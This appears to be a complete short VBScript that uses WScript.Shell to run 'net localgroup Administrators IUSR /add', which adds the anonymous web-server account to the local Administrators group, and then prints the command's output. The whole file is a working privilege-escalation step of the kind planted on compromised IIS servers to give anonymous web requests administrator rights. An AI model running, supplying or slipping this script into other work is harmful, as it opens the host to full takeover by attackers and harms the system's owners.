Set sh = CreateObject("WScript.Shell")
Set proc = sh.Exec("%COMSPEC% /c net localgroup Administrators IUSR /add")
Do While proc.Status = 0
  WScript.Sleep 100
Loop
WScript.Echo proc.StdOut.ReadAll
